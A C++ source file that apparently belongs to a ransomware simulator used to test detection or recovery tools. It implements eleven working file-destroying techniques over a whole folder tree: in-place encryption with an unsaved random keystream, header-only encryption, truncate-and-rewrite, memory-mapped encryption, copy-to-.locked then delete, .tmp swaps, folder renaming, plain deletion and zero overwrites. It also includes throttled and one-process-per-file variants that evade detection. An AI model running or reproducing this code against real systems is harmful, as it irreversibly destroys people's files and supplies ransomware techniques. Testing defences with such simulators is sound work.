// The attacker classes. The "ciphertext" is the content XORed with a keystream from a random
// seed: as high in entropy as a real cipher's, never the same twice, and with no byte left as
// it was (the keystream has no zero byte).
#include "reference/scenario_attacker/attacks.h"

#include <algorithm>
#include <cstdio>
#include <fstream>
#include <random>

#include "platform/mapped_file.h"
#include "platform/process.h"
#include "platform/process_launch.h"
#include "platform/sleep.h"
#include "platform/text.h"

namespace fs = std::filesystem;

namespace attacker {
namespace {

constexpr size_t kHeaderBytes = 4096;  // what a header-only attacker encrypts

std::mt19937_64& Keystream() {
    static std::mt19937_64 stream((uint64_t{std::random_device{}()} << 32) ^
                                  platform::CurrentProcessId());
    return stream;
}

void Encrypt(uint8_t* bytes, size_t count) {
    for (size_t i = 0; i < count; ++i) bytes[i] ^= static_cast<uint8_t>(Keystream()() | 1);
}

bool ReadAll(const fs::path& file, std::string& content) {
    std::ifstream in(file, std::ios::binary);
    if (!in) return false;
    content.assign(std::istreambuf_iterator<char>(in), {});
    return !in.bad();
}

// Writes content at the file's start (a new file when it does not exist), keeping what lies
// beyond it.
bool WriteAtStart(const fs::path& file, const std::string& content) {
    std::error_code ec;
    const auto mode = fs::exists(file, ec) ? std::ios::in | std::ios::out | std::ios::binary
                                           : std::ios::out | std::ios::binary;
    std::fstream out(file, mode);
    if (!out) return false;
    out.write(content.data(), static_cast<std::streamsize>(content.size()));
    out.close();
    return !out.fail();
}

bool Failed(const fs::path& file, const char* why) {
    std::fprintf(stderr, "ScenarioAttacker: %s: %s; going on with the next file\n",
                 file.u8string().c_str(), why);
    return false;
}

// The shape of most classes: one step per file, the pause between files.
template <typename Step>
size_t EachFile(const std::vector<fs::path>& files, const AttackOptions& options, Step step) {
    size_t failed = 0, done = 0;
    for (const fs::path& file : files) {
        if (done++ == options.limit) break;
        if (!step(file)) ++failed;
        if (options.pauseMs != 0) platform::SleepMilliseconds(options.pauseMs);
    }
    return failed;
}

std::string Ciphertext(const fs::path& file, bool& read) {
    std::string content;
    read = ReadAll(file, content);
    Encrypt(reinterpret_cast<uint8_t*>(content.data()), content.size());
    return content;
}

size_t RandomRewrite(const fs::path& folder, const AttackOptions& options) {
    return EachFile(FilesUnder(folder), options, [](const fs::path& file) {
        return EncryptInPlace(file) || Failed(file, "cannot rewrite it");
    });
}

size_t HeaderOnly(const fs::path& folder, const AttackOptions& options) {
    return EachFile(FilesUnder(folder), options, [](const fs::path& file) {
        bool read = false;
        std::string content = Ciphertext(file, read);
        content.resize(std::min(content.size(), kHeaderBytes));
        return (read && WriteAtStart(file, content)) || Failed(file, "cannot encrypt its header");
    });
}

size_t TruncateThenWrite(const fs::path& folder, const AttackOptions& options) {
    return EachFile(FilesUnder(folder), options, [](const fs::path& file) {
        bool read = false;
        const std::string content = Ciphertext(file, read);
        std::error_code ec;
        fs::resize_file(file, 0, ec);
        return (read && !ec && WriteAtStart(file, content)) ||
               Failed(file, "cannot truncate and rewrite it");
    });
}

size_t ThroughMap(const fs::path& folder, const AttackOptions& options) {
    return EachFile(FilesUnder(folder), options, [](const fs::path& file) {
        std::string error;
        return platform::ChangeThroughMap(platform::FromUtf8(file.u8string()), Encrypt, error) ||
               Failed(file, error.c_str());
    });
}

size_t CopyThenDelete(const fs::path& folder, const AttackOptions& options) {
    return EachFile(FilesUnder(folder), options, [](const fs::path& file) {
        bool read = false;
        const std::string content = Ciphertext(file, read);
        std::error_code ec;
        return (read && WriteAtStart(fs::path(file) += ".locked", content) &&
                fs::remove(file, ec)) ||
               Failed(file, "cannot copy it to NAME.locked and delete it");
    });
}

size_t RenameAsideThenReplace(const fs::path& folder, const AttackOptions& options) {
    return EachFile(FilesUnder(folder), options, [](const fs::path& file) {
        const fs::path aside = fs::path(file) += ".tmp";
        std::error_code ec;
        fs::rename(file, aside, ec);
        if (ec) return Failed(file, "cannot rename it to NAME.tmp");
        bool read = false;
        const std::string content = Ciphertext(aside, read);
        return (read && WriteAtStart(file, content) && fs::remove(aside, ec)) ||
               Failed(file, "cannot write the ciphertext under NAME and delete NAME.tmp");
    });
}

size_t RenameFoldersThenEncrypt(const fs::path& folder, const AttackOptions& options) {
    std::vector<fs::path> renamed;
    std::error_code ec;
    for (const fs::directory_entry& entry : fs::directory_iterator(folder, ec)) {
        if (!entry.is_directory(ec) || entry.is_symlink(ec)) continue;
        const fs::path to = fs::path(entry.path()) += ".locked";
        fs::rename(entry.path(), to, ec);
        if (ec) Failed(entry.path(), "cannot rename the folder to NAME.locked");
        else renamed.push_back(to);
    }
    std::sort(renamed.begin(), renamed.end());
    std::vector<fs::path> files;
    for (const fs::path& moved : renamed) {
        const std::vector<fs::path> inside = FilesUnder(moved);
        files.insert(files.end(), inside.begin(), inside.end());
    }
    return EachFile(files, options, [](const fs::path& file) {
        return EncryptInPlace(file) || Failed(file, "cannot rewrite it");
    });
}

size_t DeleteOnly(const fs::path& folder, const AttackOptions& options) {
    return EachFile(FilesUnder(folder), options, [](const fs::path& file) {
        std::error_code ec;
        return fs::remove(file, ec) || Failed(file, "cannot delete it");
    });
}

size_t ProcessPerFile(const fs::path& folder, const AttackOptions& options) {
    return EachFile(FilesUnder(folder), options, [&options](const fs::path& file) {
        const uint32_t child =
            platform::LaunchProgram(platform::FromUtf8(options.self), {"owner", file.u8string()});
        if (child == 0) return Failed(file, "cannot start a process for it");
        return platform::WaitForProcess(child) == 0 || Failed(file, "its process failed");
    });
}

size_t Zeros(const fs::path& folder, const AttackOptions& options) {
    return EachFile(FilesUnder(folder), options, [](const fs::path& file) {
        std::error_code ec;
        const uintmax_t size = fs::file_size(file, ec);
        return (!ec && WriteAtStart(file, std::string(static_cast<size_t>(size), '\0'))) ||
               Failed(file, "cannot overwrite it with zeros");
    });
}

}  // namespace

std::vector<fs::path> FilesUnder(const fs::path& folder) {
    std::vector<fs::path> files;
    std::error_code ec;
    for (auto it = fs::recursive_directory_iterator(folder, ec);
         !ec && it != fs::recursive_directory_iterator(); it.increment(ec)) {
        if (it->is_regular_file(ec) && !it->is_symlink(ec)) files.push_back(it->path());
    }
    std::sort(files.begin(), files.end());
    return files;
}

bool EncryptInPlace(const fs::path& file) {
    bool read = false;
    const std::string content = Ciphertext(file, read);
    return read && WriteAtStart(file, content);
}

const std::vector<AttackClass>& AttackClasses() {
    static const std::vector<AttackClass> classes{
        {"rewrite", "rewrites each file in place with ciphertext of the same length",
         RandomRewrite},
        {"header", "encrypts each file's first 4096 bytes in place", HeaderOnly},
        {"truncate", "truncates each file to 0 bytes, then writes its ciphertext",
         TruncateThenWrite},
        {"mmap", "encrypts each file through a shared memory map (no write call)", ThroughMap},
        {"copy-delete", "writes NAME.locked with the ciphertext, then deletes NAME",
         CopyThenDelete},
        {"tmp-swap", "renames NAME to NAME.tmp, writes the ciphertext as NAME, deletes NAME.tmp",
         RenameAsideThenReplace},
        {"folder-rename", "renames each top folder to NAME.locked, then encrypts the files in it",
         RenameFoldersThenEncrypt},
        {"delete", "deletes each file, writing nothing", DeleteOnly},
        {"slow", "rewrite, one file every --pause MS", RandomRewrite},
        {"per-process", "rewrite, each file by a new process of this program (its owner mode)",
         ProcessPerFile},
        {"zeros", "overwrites each file with zeros of the same length", Zeros},
    };
    return classes;
}

}  // namespace attacker
